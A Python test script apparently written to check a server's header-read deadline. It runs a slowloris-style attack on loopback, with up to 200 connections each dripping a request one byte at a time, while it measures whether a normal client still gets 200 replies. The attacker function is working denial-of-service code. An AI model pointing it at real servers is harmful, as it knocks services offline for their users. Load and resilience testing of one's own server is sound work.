#!/usr/bin/env python3
"""A slow-connection attack beside a well-behaved client, on loopback.

ATTACKERS connections (spread over 127.0.0.2 ... 127.0.0.11, as ten other machines would be) each
send a request one byte at a time, a byte every DRIP seconds, reconnecting whenever the server
closes them; meanwhile a client on 127.0.0.1 asks GET PATH every 0.2 s for SECONDS seconds.
Prints how many of the client's requests were answered with 200, its worst latency, and how many
connections the attackers opened (more than ATTACKERS: the server's header deadline closed them).

Usage: slow_drip.py PORT [--attackers 200] [--drip 1.0] [--seconds 20] [--path /api/health]
"""
import argparse
import socket
import threading
import time


def attacker(addr, port, drip, stop, opened):
    request = b"GET /api/health HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 4096
    while not stop.is_set():
        try:
            s = socket.socket()
            s.bind((addr, 0))
            s.settimeout(5)
            s.connect(("127.0.0.1", port))
            opened[0] += 1
            for b in request:
                if stop.is_set():
                    break
                s.send(bytes([b]))
                stop.wait(drip)
        except OSError:
            pass
        finally:
            s.close()
        stop.wait(0.1)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("port", type=int)
    ap.add_argument("--attackers", type=int, default=200)
    ap.add_argument("--drip", type=float, default=1.0)
    ap.add_argument("--seconds", type=float, default=20)
    ap.add_argument("--path", default="/api/health")
    a = ap.parse_args()
    stop, opened = threading.Event(), [0]
    threads = [threading.Thread(target=attacker, args=(f"127.0.0.{2 + i % 10}", a.port, a.drip, stop, opened),
                                daemon=True) for i in range(a.attackers)]
    for t in threads:
        t.start()
    time.sleep(2)  # every attacker connected and dripping
    ok = failed = 0
    worst = 0.0
    end = time.monotonic() + a.seconds
    while time.monotonic() < end:
        t0 = time.monotonic()
        try:
            with socket.create_connection(("127.0.0.1", a.port), timeout=10) as c:
                c.sendall(f"GET {a.path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
                reply = b""
                while chunk := c.recv(65536):
                    reply += chunk
            if reply.startswith(b"HTTP/1.1 200"):
                ok += 1
            else:
                failed += 1
        except OSError:
            failed += 1
        worst = max(worst, time.monotonic() - t0)
        time.sleep(0.2)
    stop.set()
    print(f"slow drip: {a.attackers} connections from 127.0.0.2-11 dripping a byte every {a.drip:g} s; "
          f"the client on 127.0.0.1 got {ok} answers of {ok + failed} (worst {worst * 1000:.0f} ms); "
          f"attacker connections opened: {opened[0]} (each new one after the server closed the last)")
    return 0 if failed == 0 and ok > 0 else 1


if __name__ == "__main__":
    raise SystemExit(main())
